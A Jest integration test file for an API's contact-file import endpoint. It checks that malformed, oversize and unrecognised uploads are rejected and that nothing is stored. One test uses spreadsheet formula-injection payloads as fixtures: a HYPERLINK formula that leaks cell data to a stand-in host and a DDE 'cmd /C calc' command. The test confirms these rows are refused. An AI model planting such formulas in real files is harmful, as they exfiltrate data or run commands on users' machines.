import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { getDataSourceToken } from '@nestjs/typeorm';
import type { DataSource } from 'typeorm';
import { type ApiHarness, startApi } from './support/api-harness.js';
import { linkedInConnections, mastodonFollowing } from './support/contact-files.js';
import { expectNoImports, uploadImport } from './support/social.js';
import { makeMember, type TestMember } from './support/members.js';

describe('rejecting contact files that cannot be imported', () => {
  let api: ApiHarness;
  let db: DataSource;

  beforeAll(async () => {
    api = await startApi({ LOGIN_ATTEMPTS_PER_MINUTE: '100000' });
    db = api.app.get<DataSource>(getDataSourceToken());
  });
  afterAll(() => api.close());

  const unique = () => randomBytes(4).toString('hex');
  const expectNothingStored = (owner: TestMember) => expectNoImports(api, owner);

  it('rejects a CSV with a header it does not know with 400 naming the formats accepted, and stores nothing', async () => {
    const importer = await makeMember(api);
    const response = await uploadImport(
      api,
      importer,
      'Name,Handle\nSabine,@sabine@mastodon.social\n',
    ).expect(400);
    expect(response.body).toMatchObject({ statusCode: 400, error: 'UNRECOGNISED_IMPORT_FILE' });
    expect(response.body.message).toMatch(
      /following_accounts\.csv.*Connections\.csv.*following\.js.*plain text/,
    );
    await expectNothingStored(importer);
  });

  it('rejects a Connections.csv with neither a URL nor an Email Address column with 400, and stores nothing', async () => {
    const importer = await makeMember(api);
    const response = await uploadImport(
      api,
      importer,
      'First Name,Last Name,Company,Position\r\nJan,Müller,ACME,Engineer\r\n',
      'Connections.csv',
    ).expect(400);
    expect(response.body).toMatchObject({ statusCode: 400, error: 'UNRECOGNISED_IMPORT_FILE' });
    expect(response.body.message).toMatch(/neither a URL nor an Email Address column/);
    await expectNothingStored(importer);
  });

  it('rejects binary garbage with 400 and stores nothing', async () => {
    const importer = await makeMember(api);
    const garbage = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]), randomBytes(4096)]);
    const response = await uploadImport(api, importer, garbage, 'following_accounts.csv').expect(400);
    expect(response.body.error).toBe('UNRECOGNISED_IMPORT_FILE');
    await expectNothingStored(importer);
  });

  it('rejects 10 MB of junk text with 400, and a file over 10 MB with 413, storing nothing', async () => {
    const importer = await makeMember(api);
    const junk = Buffer.alloc(10 * 1024 * 1024, 'lorem ipsum; ');
    const response = await uploadImport(api, importer, junk, 'junk.txt').expect(400);
    expect(response.body.error).toBe('UNRECOGNISED_IMPORT_FILE');
    const tooLarge = await uploadImport(
      api,
      importer,
      Buffer.alloc(10 * 1024 * 1024 + 1, 'a'),
      'big.txt',
    ).expect(413);
    expect(tooLarge.body).toMatchObject({ statusCode: 413, error: 'IMPORT_TOO_LARGE' });
    await expectNothingStored(importer);
  });

  it('rejects formula-injection cells row by row and never stores them', async () => {
    const importer = await makeMember(api);
    const file = mastodonFollowing([
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"',
      "+cmd|' /C calc'!A0",
      `fine-${unique()}@mastodon.social`,
    ]);
    const response = await uploadImport(api, importer, file, 'following_accounts.csv').expect(201);
    expect(response.body).toMatchObject({
      rowsRead: 3,
      recognised: 1,
      rejections: [
        { row: 1, reason: 'FORMULA_CELL' },
        { row: 2, reason: 'FORMULA_CELL' },
      ],
    });
    const stored = JSON.stringify(
      await db.query(`SELECT * FROM imported_contact WHERE owner_id = $1`, [importer.id]),
    );
    expect(stored).not.toMatch(/HYPERLINK|evil|calc/);
    const linkedIn = linkedInConnections([
      { firstName: '=1+1', lastName: 'X', url: '=HYPERLINK("http://evil.example")' },
    ]);
    const second = await uploadImport(api, importer, linkedIn).expect(201);
    expect(second.body.rejections).toEqual([{ row: 1, reason: 'FORMULA_CELL' }]);
  });

  it('rejects a broken following.js, a request without a file and more than 100,000 rows with 400, storing nothing', async () => {
    const importer = await makeMember(api);
    const broken = await uploadImport(
      api,
      importer,
      'window.YTD.following.part0 = [ { "following" : ',
    ).expect(400);
    expect(broken.body.error).toBe('MALFORMED_IMPORT_FILE');
    const noFile = await api
      .http()
      .post('/api/v1/me/imports')
      .set('Authorization', importer.bearer)
      .send({ file: 'sabine@mastodon.social' })
      .expect(400);
    expect(noFile.body.error).toBe('UPLOAD_REQUIRED');
    const rows = Array.from({ length: 100_001 }, (_, i) => `https://x.com/user${i}`).join('\n');
    const tooMany = await uploadImport(api, importer, rows).expect(400);
    expect(tooMany.body.error).toBe('IMPORT_TOO_MANY_ROWS');
    await expectNothingStored(importer);
  });

  // Large files are read and written a batch of rows at a time: what one batch holds must not decide any of this.
  it('stores nothing of a CSV file found unreadable or too long after thousands of its rows', async () => {
    const importer = await makeMember(api);
    const addresses = Array.from({ length: 12_000 }, (_, i) => `late${i}-${unique()}@mastodon.social`);
    const unreadable = mastodonFollowing([...addresses, `${'a'.repeat(70_000)}@mastodon.social`]);
    const refused = await uploadImport(api, importer, unreadable, 'following_accounts.csv').expect(400);
    expect(refused.body.error).toBe('MALFORMED_IMPORT_FILE');
    await expectNothingStored(importer);

    const tooLong = mastodonFollowing(Array.from({ length: 100_001 }, (_, i) => `user${i}@mastodon.social`));
    const tooMany = await uploadImport(api, importer, tooLong, 'following_accounts.csv').expect(400);
    expect(tooMany.body).toMatchObject({ error: 'IMPORT_TOO_MANY_ROWS' });
    expect(tooMany.body.message).toContain('this one has 100001');
    await expectNothingStored(importer);
  }, 60_000);

  it('numbers rejected rows and keeps each account once across the whole of a large file', async () => {
    const importer = await makeMember(api);
    const addresses = Array.from({ length: 12_000 }, (_, i) => `far${i}-${unique()}@mastodon.social`);
    addresses[7_000] = '=1+1';
    addresses[11_000] = addresses[0].toUpperCase();
    const response = await uploadImport(
      api,
      importer,
      mastodonFollowing(addresses),
      'following_accounts.csv',
    ).expect(201);
    expect(response.body).toMatchObject({
      rowsRead: 12_000,
      recognised: 11_999,
      rejected: 1,
      rejections: [{ row: 7_001, reason: 'FORMULA_CELL' }],
    });
    const [{ stored }] = await db.query(
      `SELECT count(*)::int AS stored FROM imported_contact WHERE owner_id = $1`,
      [importer.id],
    );
    expect(stored).toBe(11_998);
  }, 60_000);
});
